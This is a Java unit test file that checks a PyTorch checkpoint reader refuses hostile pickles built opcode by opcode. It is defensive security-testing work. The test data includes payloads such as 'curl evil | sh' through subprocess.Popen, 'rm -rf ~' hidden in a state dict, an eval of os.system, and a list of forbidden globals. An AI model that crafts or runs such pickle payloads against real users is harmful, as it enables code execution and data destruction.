package dev.jlens.io.pytorch;

import dev.jlens.JlensException;
import dev.jlens.io.pytorch.TorchFiles.Tensor;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.Map;

import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

/**
 * Hostile pickles, written opcode by opcode and wrapped in a STORED zip the way torch.save packs them. Each
 * must be refused with a JlensException naming the file and the global or opcode; nothing may run.
 */
class TorchPickleSecurityTest {

    @TempDir
    Path dir;

    private Path checkpoint(String name, PickleBytes pickle) throws IOException {
        Path p = dir.resolve(name);
        Files.write(p, TorchFiles.checkpoint("archive", pickle.bytes(), Map.of("0", TorchFiles.f32(1, 2))));
        return p;
    }

    private static JlensException refused(Path p, String... parts) {
        JlensException e = assertThrows(JlensException.class, () -> TorchCheckpoint.open(p));
        String m = e.getMessage();
        assertTrue(m.contains(p.toString()), "message should name the file: " + m);
        assertTrue(m.contains("archive/data"), "message should name the zip entry: " + m);
        for (String s : parts) assertTrue(m.contains(s), "message should mention \"" + s + "\": " + m);
        return e;
    }

    /** What {@code pickle.dumps(obj)} writes for an object whose __reduce__ returns (module.name, (arg,)). */
    private static PickleBytes reduceCall(String module, String name, String arg) {
        return new PickleBytes().proto(2).global(module, name).put(0).str(arg).put(1).op(0x85).put(2).reduce().put(3).stop();
    }

    @ParameterizedTest
    @CsvSource({"os, system", "posix, system", "nt, system", "subprocess, check_output", "builtins, eval",
            "builtins, exec", "__builtin__, eval", "torch, load", "torch._utils, _rebuild_from_type_v2",
            "torch.serialization, _get_layout", "collections, defaultdict", "numpy.core.multiarray, _reconstruct"})
    void reduceOfAForbiddenGlobal(String module, String name) throws IOException {
        Path p = checkpoint(module + "." + name + ".bin", reduceCall(module, name, "touch /tmp/jlens-pwned"));
        refused(p, "\"" + module + "." + name + "\"", "refuses");
    }

    @Test
    void subprocessPopenWithAnArgumentList() throws IOException {
        PickleBytes p = new PickleBytes().proto(2).global("subprocess", "Popen").mark()
                .emptyList().mark().str("sh").str("-c").str("curl evil | sh").appends().tuple().reduce().stop();
        refused(checkpoint("popen.bin", p), "\"subprocess.Popen\"");
    }

    @Test
    void evalThroughProtocol4StackGlobal() throws IOException {
        PickleBytes p = new PickleBytes().proto(4).frame(40).stackGlobal("builtins", "eval").memoize()
                .shortStr("__import__('os').system('id')").op(0x85).reduce().stop();
        refused(checkpoint("eval.bin", p), "\"builtins.eval\"");
    }

    @Test
    void getattrToReachAMethodOfAnAllowedClass() throws IOException {
        // getattr(OrderedDict, "fromkeys") would be a way from an allowed global to arbitrary attributes.
        PickleBytes p = new PickleBytes().proto(2).global("builtins", "getattr")
                .global("collections", "OrderedDict").str("fromkeys").op(0x86).reduce().stop();
        refused(checkpoint("getattr.bin", p), "\"builtins.getattr\"");
    }

    /**
     * A state dict that looks right, with a {@code __reduce__} payload hidden where torch puts the backward
     * hooks of a tensor: the refusal must happen at the global, deep inside an allowed call.
     */
    @Test
    void payloadHiddenInsideAValidLookingStateDict() throws IOException {
        PickleBytes p = new PickleBytes().proto(2);
        p.global("collections", "OrderedDict").put(0).emptyTuple().reduce().put(1).mark();
        p.str("gpt_neox.embed_in.weight").global("torch._utils", "_rebuild_tensor_v2").put(2);
        p.mark().mark().str("storage").global("torch", "FloatStorage").str("0").str("cpu").integer(2).tuple().persid();
        p.integer(0).intTuple(2).intTuple(1).newFalse();
        p.global("os", "system").str("rm -rf ~").op(0x85).reduce(); // instead of OrderedDict()
        p.tuple().reduce().setitems().stop();
        refused(checkpoint("hidden.bin", p), "\"os.system\"");
    }

    @Test
    void globalNameWithEmbeddedDots() throws IOException {
        // Python resolves dotted names with getattr chains (protocol 4): "OrderedDict.fromkeys" must not pass.
        PickleBytes p = new PickleBytes().proto(4).stackGlobal("collections", "OrderedDict.__init__.__globals__")
                .stop();
        refused(checkpoint("dotted.bin", p), "\"collections.OrderedDict.__init__.__globals__\"");
    }

    @Test
    void allowedGlobalsCannotBeMisused() throws IOException {
        refused(checkpoint("storagecall.bin", new PickleBytes().proto(2).global("torch", "FloatStorage")
                .str("/etc/passwd").op(0x85).reduce().stop()), "torch.FloatStorage", "storage type");
        refused(checkpoint("odargs.bin", new PickleBytes().proto(2).global("collections", "OrderedDict")
                .emptyList().op(0x85).reduce().stop()), "collections.OrderedDict", "1 arguments");
        refused(checkpoint("rebuildargs.bin", new PickleBytes().proto(2).global("torch._utils", "_rebuild_tensor_v2")
                .mark().str("/etc/passwd").integer(0).intTuple(1).intTuple(1).newFalse().none().tuple().reduce().stop()),
                "_rebuild_tensor_v2", "argument 1 is a str, not a storage");
        // BUILD is how pickles call __setstate__; only the state dict's own _metadata may be set
        refused(checkpoint("build.bin", new PickleBytes().proto(2).global("torch", "Size").intTuple(2).op(0x85)
                .reduce().emptyDict().build().stop()), "BUILD", "tuple");
        // the persistent id must be a storage record, not something to look up
        refused(checkpoint("persid.bin", new PickleBytes().proto(2).mark().str("storage").global("collections", "OrderedDict")
                .str("0").str("cpu").integer(1).tuple().persid().stop()), "persistent id", "collections.OrderedDict");
    }

    @ParameterizedTest
    @CsvSource({"0xff, unknown pickle opcode 0xff", "0x00, unknown pickle opcode 0x00", "0x99, unknown pickle opcode 0x99",
            "0x81, 0x81 (NEWOBJ)", "0x92, 0x92 (NEWOBJ_EX)", "0x69, 0x69 (INST)", "0x6f, 0x6f (OBJ)",
            "0x82, 0x82 (EXT1)", "0x50, 0x50 (PERSID)"})
    void unknownOrUnsupportedOpcodes(String hex, String expected) throws IOException {
        int op = Integer.decode(hex);
        // INST and OBJ would read "os\nsys\n" as a class to instantiate; they are refused before that
        PickleBytes p = new PickleBytes().proto(2).emptyDict().op(op).op('o', 's', '\n', 's', 'y', 's', '\n').stop();
        refused(checkpoint("op" + hex + ".bin", p), expected, "at byte 3");
    }

    @Test
    void lengthsClaimingMoreThanTheFileHolds() throws IOException {
        refused(checkpoint("str8.bin", new PickleBytes().proto(4).op(0x8d).op(0, 0, 0, 0, 0, 0, 0, 0x40).stop()),
                "string of 4611686018427387904 bytes");
        refused(checkpoint("str4.bin", new PickleBytes().proto(2).op('X', 0xff, 0xff, 0xff, 0xff).op('a').stop()),
                "string of 4294967295 bytes");
        refused(checkpoint("frame.bin", new PickleBytes().proto(4).frame(Long.MAX_VALUE).stop()), "FRAME");
        refused(checkpoint("long1.bin", new PickleBytes().proto(2).op(0x8a, 200).stop()), "LONG1");
        refused(checkpoint("numel.bin", new PickleBytes().proto(2).global("collections", "OrderedDict").emptyTuple()
                        .reduce().str("w").global("torch._utils", "_rebuild_tensor_v2").mark().mark().str("storage")
                        .global("torch", "FloatStorage").str("0").str("cpu").op(0x8a, 8, 0, 0, 0, 0, 0, 0, 0, 0x40)
                        .tuple().persid().integer(0).intTuple(1).intTuple(1).newFalse().none().tuple().reduce()
                        .setitem().stop()),
                "\"w\"", "claims 4611686018427387904 elements");
    }

    @Test
    void memoAndStackMisuse() throws IOException {
        refused(checkpoint("get.bin", new PickleBytes().proto(2).op('j', 0xff, 0xff, 0xff, 0xff).stop()),
                "memo entry 4294967295");
        refused(checkpoint("pop.bin", new PickleBytes().proto(2).reduce().stop()), "REDUCE", "empty stack");
        refused(checkpoint("mark.bin", new PickleBytes().proto(2).none().tuple().stop()), "TUPLE", "no MARK");
        refused(checkpoint("stop.bin", new PickleBytes().proto(2).emptyDict()), "without a STOP");
        refused(checkpoint("proto.bin", new PickleBytes().proto(9).emptyDict().stop()), "protocol 9");
        refused(checkpoint("key.bin", new PickleBytes().proto(2).emptyDict().emptyList().none().setitem().stop()),
                "dict key", "list");
        PickleBytes endless = new PickleBytes().proto(2).op('c');
        for (int i = 0; i < 300; i++) endless.op('o');
        refused(checkpoint("newline.bin", endless.stop()), "GLOBAL", "newline");
        PickleBytes flood = new PickleBytes().proto(2);
        for (int i = 0; i <= TorchUnpickler.MAX_STACK; i++) flood.none();
        refused(checkpoint("flood.bin", flood.stop()), "stack grows beyond");
    }

    @Test
    void cyclicAndDeeplyNestedValuesAreHandledWithoutRecursion() throws IOException {
        // a list that contains itself, then used as the whole pickle: reported by type, never printed
        refused(checkpoint("cycle.bin", new PickleBytes().proto(2).emptyList().put(0).get(0).append().stop()),
                "holds a list");
        PickleBytes deep = new PickleBytes().proto(2).emptyTuple();
        for (int i = 0; i < 500_000; i++) deep.op(0x85);
        refused(checkpoint("deep.bin", deep.stop()), "holds a tuple");
        // {"k": {"k": {... 200000 deep}}}: all dicts pushed first, then linked by SETITEMs from the inside out
        PickleBytes deepDict = new PickleBytes().proto(2).emptyDict();
        for (int i = 0; i < 200_000; i++) deepDict.str("k").emptyDict();
        for (int i = 0; i < 200_000; i++) deepDict.setitem();
        refused(checkpoint("deepdict.bin", deepDict.stop()), "holds no tensors (keys: k)");
    }

    @Test
    void nonContiguousTensorIsRefusedNotCopied() throws IOException {
        Path p = dir.resolve("strided.bin");
        Files.write(p, TorchFiles.checkpoint("archive", TorchFiles.stateDictPickle(List.of(
                new Tensor("w", "FloatStorage", "0", 2, 0, new long[]{2}, new long[]{2}))), Map.of("0", TorchFiles.f32(1, 2, 3, 4))));
        JlensException e = assertThrows(JlensException.class, () -> TorchCheckpoint.open(p));
        assertTrue(e.getMessage().contains("contiguous") && e.getMessage().contains("\"w\""), e.getMessage());
    }
}
